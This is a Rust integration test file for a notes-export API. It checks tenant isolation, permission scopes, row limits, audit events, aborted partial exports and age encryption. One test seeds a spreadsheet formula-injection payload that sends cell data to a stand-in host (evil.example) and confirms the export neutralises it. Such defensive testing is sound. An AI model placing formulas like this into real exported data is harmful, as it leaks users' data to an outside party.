//! Exports (CRYPTO-09): contents and rights, limits, events, interruption, and encryption for a
//! recipient.

use std::io::Read as _;

use http::Method;
use sample::access::{roles, scopes};
use serde_json::{Value, json};
use sqlx::AssertSqlSafe;

use crate::support::{
    ACME, Actor, Fields, GLOBEX, MATRIX, Reply, SERVICE, TestApp, eventually, id, incident, note_body, superuser,
};

fn period(from: &Value, to: &Value) -> Value {
    json!({ "kind": "notes", "from": from, "to": to })
}

fn all_time() -> Value {
    period(&json!("2020-01-01T00:00:00Z"), &json!("2100-01-01T00:00:00Z"))
}

async fn export(actor: &Actor, request: &Value) -> Reply {
    actor.post("/v1/exports", request).await
}

/// The rows of a CSV file, as cells by column.
fn rows(csv: &str) -> Vec<std::collections::HashMap<String, String>> {
    csv::Reader::from_reader(csv.as_bytes()).deserialize().map(Result::unwrap).collect()
}

fn export_events(reply: &Reply) -> Vec<Fields> {
    reply.events().into_iter().filter(|event| event["event"].starts_with("data_export")).collect()
}

/// Adds this many notes to Acme, one per second until a day ago.
async fn insert_notes(app: &TestApp, notes: u32) {
    let insert = format!(
        "begin; set local session_replication_role = replica; set local app.tenant_id = '{}';
         insert into notes (tenant_id, id, status, items, priority, remark, created_by, created_at, updated_at)
         select palisade.current_tenant(), gen_random_uuid(), 'draft', '[{{\"code\": \"PEN\", \"count\": 1}}]',
                'standard', repeat('n', 200), 'many', now() - interval '1 day' - n * interval '1 second', now()
         from generate_series(1, {notes}) n;
         commit; analyze notes",
        ACME.id
    );
    sqlx::raw_sql(AssertSqlSafe(insert)).execute(&mut superuser(&app.database).await).await.unwrap();
}

#[tokio::test]
async fn crypto_09_export_contains_the_period_of_the_callers_tenant() {
    let app = SERVICE.start().await;
    let auditor = app.user(roles::AUDITOR);
    let admin = app.user(roles::ADMIN);
    let globex = app.user_of(&GLOBEX, roles::ADMIN, &scopes::ALL);
    let globex_notes = globex.get("/v1/notes?limit=100").await.ok(200);
    let listed = admin.get("/v1/notes?limit=100").await.ok(200);
    let ids = |page: &Value| -> Vec<String> {
        page["items"].as_array().unwrap().iter().map(|note| note["id"].as_str().unwrap().to_owned()).collect()
    };
    let acme_ids = ids(&listed);
    assert!(acme_ids.len() > 1 && !ids(&globex_notes).is_empty());
    for actor in [&auditor, &admin] {
        let reply = export(actor, &all_time()).await;
        assert_eq!(reply.status, 200, "{reply:#?}");
        assert_eq!(reply.header("content-type"), Some("text/csv; charset=utf-8"));
        assert_eq!(reply.header("content-disposition"), Some("attachment; filename=\"notes.csv\""));
        assert_eq!(reply.header("cache-control"), Some("no-store"));
        let exported = rows(&reply.text);
        assert_eq!(exported.iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), acme_ids);
        let first = &listed["items"][0];
        for column in ["status", "priority", "createdBy"] {
            assert_eq!(exported[0][column], first[column].as_str().unwrap());
        }
    }
    // A period includes its beginning and excludes its end.
    let newest = &listed["items"][0]["createdAt"];
    let oldest = &listed["items"][acme_ids.len() - 1]["createdAt"];
    let exported = rows(&export(&auditor, &period(oldest, newest)).await.text);
    assert_eq!(exported.iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), acme_ids[1..]);
    let none = period(&json!("2001-01-01T00:00:00Z"), &json!("2001-01-02T00:00:00Z"));
    let reply = export(&auditor, &none).await;
    assert!(reply.text.starts_with("id,status,") && rows(&reply.text).is_empty(), "{}", reply.text);
    assert_eq!(export(&auditor, &period(newest, newest)).await.faults(), ["/to not_after_from"]);
}

#[tokio::test]
async fn crypto_09_csv_formulas_are_neutralised() {
    let app = SERVICE.start().await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1)";
    let mut note = note_body("PEN-BLUE", 1);
    note["remark"] = json!(formula);
    let id = id(&app.user(roles::WRITER).post("/v1/notes", &note).await.ok(201));
    let exported = rows(&export(&app.user(roles::AUDITOR), &all_time()).await.text);
    let row = exported.iter().find(|row| row["id"] == id).unwrap();
    assert_eq!(row["remark"], format!("'{formula}"));
}

#[tokio::test]
async fn crypto_09_export_needs_scope_and_permission() {
    let app = SERVICE.start().await;
    for role in [roles::VIEWER, roles::WRITER] {
        let reply = export(&app.user(role), &all_time()).await;
        assert_eq!(reply.problem(403), "forbidden");
        assert!(reply.events().iter().any(|event| event["event"] == "authz_fail"), "{role:?}");
    }
    let without = scopes::ALL.into_iter().filter(|scope| *scope != scopes::EXPORTS_CREATE).collect::<Vec<_>>();
    let reply = export(&app.user_of(&ACME, roles::AUDITOR, &without), &all_time()).await;
    assert_eq!(reply.problem(403), "insufficient_scope");
    assert!(!MATRIX.key_scopes().contains(&scopes::EXPORTS_CREATE));
}

#[tokio::test]
async fn crypto_09_export_over_the_row_limit_is_rejected() {
    let app = SERVICE.start_with(&[("APP_EXPORTS__MAX_ROWS", "2000")]).await;
    let auditor = app.user(roles::AUDITOR);
    insert_notes(&app, 2_001).await;
    let reply = export(&auditor, &all_time()).await;
    assert_eq!(reply.faults(), ["/from too_many_rows"]);
    assert_eq!(export_events(&reply), Vec::<Fields>::new());
    let recent = period(&app.clock.now().to_rfc3339().into(), &json!("2100-01-01T00:00:00Z"));
    assert_eq!(export(&auditor, &recent).await.status, 200);
}

#[tokio::test]
async fn crypto_09_export_events_count_the_rows_even_of_a_partial_export() {
    let app = SERVICE.start().await;
    insert_notes(&app, 60_000).await;
    let auditor = app.user(roles::AUDITOR);
    let reply = export(&auditor, &all_time()).await;
    let all = rows(&reply.text).len();
    assert!(all > 60_000, "{all}");
    eventually("both events", async || export_events(&reply).len() == 2).await;
    let events = export_events(&reply);
    assert_eq!(events[0]["event"], "data_export_started");
    assert_eq!((events[1]["event"].as_str(), events[1]["complete"].as_str()), ("data_exported", "true"));
    for event in &events {
        assert_eq!((event["what"].as_str(), event["subject"].as_str()), ("notes", "auditor@acme.example"));
        assert_eq!(event["rows"], all.to_string());
    }
    // The client disconnects after the first chunk.
    let mut response = auditor.request(Method::POST, "/v1/exports").json(&all_time()).send().await.unwrap();
    let headers = response.headers().clone();
    response.chunk().await.unwrap().unwrap();
    drop(response);
    let reply = Reply { status: http::StatusCode::OK, headers, text: String::new(), body: Value::Null };
    eventually("the event of the partial export", async || export_events(&reply).len() == 2).await;
    let part = &export_events(&reply)[1];
    assert_eq!(part["complete"], "false");
    let exported: usize = part["rows"].parse().unwrap();
    assert!(0 < exported && exported < all, "{exported} of {all}");
}

/// Checks that an interruption after the first chunk aborts the response: a normal end would make a
/// partial export look complete.
async fn assert_aborted(app: &TestApp, interrupt: impl AsyncFnOnce()) {
    insert_notes(app, 60_000).await;
    let auditor = app.user(roles::AUDITOR);
    let mut response = auditor.request(Method::POST, "/v1/exports").json(&all_time()).send().await.unwrap();
    assert_eq!(response.status(), 200);
    response.chunk().await.unwrap().unwrap();
    interrupt().await;
    let error = loop {
        match response.chunk().await {
            Ok(Some(_)) => {}
            Ok(None) => panic!("the response ended like a complete one"),
            Err(error) => break error,
        }
    };
    assert!(error.is_body() || error.is_decode() || error.is_request(), "{error:?}");
}

#[tokio::test]
async fn crypto_09_failed_export_is_aborted() {
    let app = SERVICE.start().await;
    let fail = async || {
        let revoke = "revoke select on notes from app_reader";
        sqlx::raw_sql(revoke).execute(&mut superuser(&app.database).await).await.unwrap();
    };
    assert_aborted(&app, fail).await;
}

#[tokio::test]
async fn crypto_09_rows_added_during_an_export_do_not_exceed_the_limit() {
    let app = SERVICE.start_with(&[("APP_EXPORTS__MAX_ROWS", "60100")]).await;
    assert_aborted(&app, async || insert_notes(&app, 60_000).await).await;
}

#[tokio::test]
async fn crypto_09_export_is_aborted_when_its_caller_is_revoked() {
    let app = SERVICE.start().await;
    let revoke = async || incident(&SERVICE, &app.database, &["revoke", "subject", "auditor@acme.example"]);
    assert_aborted(&app, revoke).await;
}

#[tokio::test]
async fn crypto_09_export_is_encrypted_for_the_recipient() {
    let app = SERVICE.start().await;
    insert_notes(&app, 1_500).await;
    let auditor = app.user(roles::AUDITOR);
    let identity = age::x25519::Identity::generate();
    let mut request = all_time();
    let plain = export(&auditor, &request).await.text;
    request["recipient"] = json!(identity.to_public().to_string());
    let response = auditor.request(Method::POST, "/v1/exports").json(&request).send().await.unwrap();
    assert_eq!(response.headers()["content-type"], "application/octet-stream");
    assert_eq!(response.headers()["content-disposition"], "attachment; filename=\"notes.csv.age\"");
    let file = response.bytes().await.unwrap();
    let decrypt = |identity: &age::x25519::Identity| {
        let decryptor = age::Decryptor::new(&file[..]).unwrap();
        let mut text = String::new();
        let identity = std::iter::once(identity as &dyn age::Identity);
        decryptor.decrypt(identity).map(|mut reader| reader.read_to_string(&mut text).map(|_| text).unwrap())
    };
    assert_eq!(decrypt(&identity).unwrap(), plain);
    assert!(decrypt(&age::x25519::Identity::generate()).is_err());
    // A wrong checksum, and a key of another kind.
    let wrong = format!("age1{}", "q".repeat(58));
    request["recipient"] = json!(wrong);
    assert_eq!(export(&auditor, &request).await.faults(), ["/recipient invalid"]);
    request["recipient"] = json!("ssh-ed25519 AAAA");
    assert_eq!(export(&auditor, &request).await.problem(400), "invalid_input");
}
